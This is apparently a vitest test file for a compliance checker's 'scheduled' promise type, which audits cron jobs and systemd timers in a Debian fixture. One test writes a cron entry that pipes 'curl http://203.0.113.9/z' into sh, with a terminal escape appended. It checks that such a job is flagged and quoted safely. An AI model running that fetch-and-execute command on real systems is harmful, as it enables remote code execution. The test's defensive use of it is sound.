import { chownSync, cpSync, mkdtempSync, rmSync, writeFileSync } from "node:fs";
import { tmpdir } from "node:os";
import { join } from "node:path";
import { beforeEach, describe, expect, it } from "vitest";
import { evaluateOne, type EvaluateOptions } from "../helpers/evaluate.ts";
import { testPromiseType } from "../helpers/promise-type-kit.ts";

testPromiseType("scheduled", {
  valid: [
    'scheduled "/etc/cron.daily/logrotate" { user = "root" schedule = "@daily" quantifier = every sources = [run_parts] }',
    'scheduled "logrotate.timer" { by = timer schedule = "OnCalendar=daily" }',
    'scheduled ".*curl.*" { present = false }',
    'scheduled ".*backup.*" { user = "nobody" quantifier = none }',
    'scheduled ".*backup.*" { user = "backup" quantifier = at_least_one }',
  ],
  invalid: [
    { promise: 'scheduled "(a)\\\\1" { present = false }', code: "E103" },
    { promise: 'scheduled ".*" { sources = [anacron] }', code: "E103" },
    { promise: 'scheduled ".*" { by = unit }', code: "E103" },
    { promise: 'scheduled ".*" { user = "" }', code: "E103" },
  ],
});

// A copy of a fixture root per test (a Debian host's cron, users' crontabs and systemd units),
// read as a sandbox's; the users' crontabs are given to their owners as cron requires.
let root = "";

beforeEach(() => {
  root = join(mkdtempSync(join(tmpdir(), "cvt-sched-")), "root");
  cpSync("test/fixtures/roots/cron-mixed", root, { recursive: true, verbatimSymlinks: true });
  chownSync(join(root, "var/spool/cron/crontabs/alice"), 1000, 1000);
});

const opts = (extra: EvaluateOptions = {}): EvaluateOptions => ({ roots: { proc: "/proc", etc: join(root, "etc") }, filesRoot: root, confineTo: root, ...extra });

describe("scheduled behaviour", () => {
  it("is kept for a job present as promised, whichever way its schedule is written", async () => {
    expect(await evaluateOne('scheduled "/etc/cron.daily/logrotate" { user = "root" schedule = "@daily" }', opts())).toMatchObject({ outcome: "kept" });
    expect(await evaluateOne('scheduled "/etc/cron.daily/logrotate" { schedule = "0 0 * * *" }', opts())).toMatchObject({ outcome: "kept" });
    expect(await evaluateOne('scheduled "/usr/local/bin/ledger-backup.*" { user = "backup" schedule = "0 2 * * 1-5" }', opts())).toMatchObject({ outcome: "kept" });
    expect(await evaluateOne('scheduled "/usr/local/bin/ledger-backup.*" { schedule = "00 02 * * Mon-Fri" }', opts())).toMatchObject({ outcome: "kept" });
    expect(await evaluateOne('scheduled ".*run-parts --report /etc/cron.weekly.*" { schedule = "47 6 * * 0" sources = [crontab] }', opts())).toMatchObject({ outcome: "kept" });
    expect(await evaluateOne('scheduled "/home/alice/bin/sync-mail" { user = "alice" schedule = "0-59/15 * * * *" }', opts())).toMatchObject({ outcome: "kept" });
    expect(await evaluateOne('scheduled "/home/alice/bin/sync-mail" { user = "alice" schedule = "*/15 * * * *" }', opts())).toMatchObject({ outcome: "kept" });
  });

  it("drifts when the schedule or the user differs, saying where the job is", async () => {
    const r = await evaluateOne('scheduled "/usr/local/bin/ledger-backup.*" { user = "root" schedule = "0 2 * * *" }', opts());
    expect(r).toMatchObject({ outcome: "drift" });
    expect(r.differences).toEqual([
      expect.objectContaining({ subject: "/etc/cron.d/backup:3", attribute: "user", expected: "root", observed: "backup" }),
      expect.objectContaining({ subject: "/etc/cron.d/backup:3", attribute: "schedule", expected: "0 2 * * *", observed: "00 02 * * mon-fri" }),
    ]);
    expect(r.reason).toContain('/etc/cron.d/backup:3 runs "/usr/local/bin/ledger-backup --full" as backup (00 02 * * mon-fri), not as root');
    expect(await evaluateOne('scheduled "/etc/cron.daily/logrotate" { schedule = "0 2 * * *" }', opts())).toMatchObject({ outcome: "drift" });
  });

  it("drifts when no job matches, and a job that is not run is not one", async () => {
    expect(await evaluateOne('scheduled "/usr/bin/aide.*" { }', opts())).toMatchObject({ outcome: "drift", reason: 'no job matching "/usr/bin/aide.*" is scheduled (looked in crontab, cron_d, user, run_parts, timer)' });
    // a name with a dot, a file not executable, a crontab its user does not own, a bad minute: cron runs none of them
    for (const job of ["/etc/cron.daily/logrotate.dpkg-old", "/etc/cron.daily/notes", "/bin/never-runs-bad-minute", ".*203\\\\.0\\\\.113\\\\.9.*"]) {
      expect(await evaluateOne(`scheduled "${job}" { }`, opts())).toMatchObject({ outcome: "drift" });
      expect(await evaluateOne(`scheduled "${job}" { present = false }`, opts())).toMatchObject({ outcome: "kept" });
    }
    const noted = await evaluateOne('scheduled ".*203\\\\.0\\\\.113\\\\.9.*" { present = false }', opts());
    expect(noted.notes).toEqual(expect.arrayContaining([expect.stringContaining("/var/spool/cron/crontabs/mallory: not run: owned by uid 0, not by mallory")]));
  });

  it("drifts on a job that must be absent, quoting its command escaped", async () => {
    writeFileSync(join(root, "etc/cron.d/evil"), "* * * * * root /usr/bin/curl -s http://203.0.113.9/z | sh \u001b[2J\n");
    const r = await evaluateOne('scheduled ".*curl.*\\\\|\\\\s*sh.*" { present = false }', opts());
    expect(r).toMatchObject({ outcome: "drift", differences: [expect.objectContaining({ subject: "/etc/cron.d/evil:1", attribute: "present" })] });
    expect(r.reason).toContain("\\u001b[2J");
    expect(r.reason).not.toContain("\u001b");
  });

  it("masks a secret in a command it quotes", async () => {
    writeFileSync(join(root, "etc/cron.d/dump"), "30 1 * * * root /usr/bin/mysqldump --password=hunter2 ledger\n");
    const r = await evaluateOne('scheduled ".*mysqldump.*" { user = "backup" }', opts());
    expect(r.reason).toContain('runs "/usr/bin/mysqldump --password=****" as root');
    expect(JSON.stringify(r)).not.toContain("hunter2");
  });

  it("judges systemd timers from their units, drop-ins, enabling links and masks", async () => {
    expect(await evaluateOne('scheduled "logrotate.timer" { by = timer user = "root" schedule = "OnCalendar=*-*-* 03:30:00" }', opts())).toMatchObject({ outcome: "kept" });
    // the drop-in reset OnCalendar=daily
    expect(await evaluateOne('scheduled "logrotate.timer" { by = timer schedule = "OnCalendar=daily" }', opts())).toMatchObject({ outcome: "drift" });
    expect(await evaluateOne('scheduled "report.timer" { by = timer user = "reporter" schedule = "OnUnitActiveSec=1d; OnBootSec = 15min" }', opts())).toMatchObject({ outcome: "kept" });
    expect(await evaluateOne('scheduled "/usr/local/bin/ledger-report --daily" { sources = [timer] }', opts())).toMatchObject({ outcome: "kept" });
    expect(await evaluateOne('scheduled "apt-daily.timer" { by = timer }', opts())).toMatchObject({ outcome: "drift" });
    expect(await evaluateOne('scheduled "fstrim.timer" { by = timer }', opts())).toMatchObject({
      outcome: "drift",
      reason: expect.stringContaining("/usr/lib/systemd/system/fstrim.timer defines it, and no `.wants` link enables it"),
    });
  });

  it("applies its quantifier to the jobs the promiser matches", async () => {
    const logrotate = '".*logrotate.*"';
    expect(await evaluateOne(`scheduled ${logrotate} { schedule = "@daily" }`, opts())).toMatchObject({ outcome: "drift" }); // the timer is at 03:30
    expect(await evaluateOne(`scheduled ${logrotate} { schedule = "@daily" quantifier = at_least_one }`, opts())).toMatchObject({ outcome: "kept" });
    expect(await evaluateOne(`scheduled ${logrotate} { user = "root" }`, opts())).toMatchObject({ outcome: "kept" });
    expect(await evaluateOne('scheduled ".*" { user = "mallory" quantifier = none }', opts())).toMatchObject({ outcome: "kept" });
    const none = await evaluateOne('scheduled ".*" { user = "alice" quantifier = none }', opts());
    expect(none).toMatchObject({ outcome: "drift", differences: [expect.objectContaining({ subject: "/var/spool/cron/crontabs/alice:2", attribute: "quantifier" })] });
  });

  it("is an error when a crontab directory cannot be read, or the users cannot", async () => {
    rmSync(join(root, "etc/passwd"));
    expect(await evaluateOne('scheduled ".*" { present = false }', opts())).toMatchObject({ outcome: "error", reason: expect.stringContaining("users' crontabs cannot be judged") });
    expect(await evaluateOne('scheduled "report.timer" { by = timer sources = [timer] }', opts())).toMatchObject({ outcome: "kept" });
  });
});
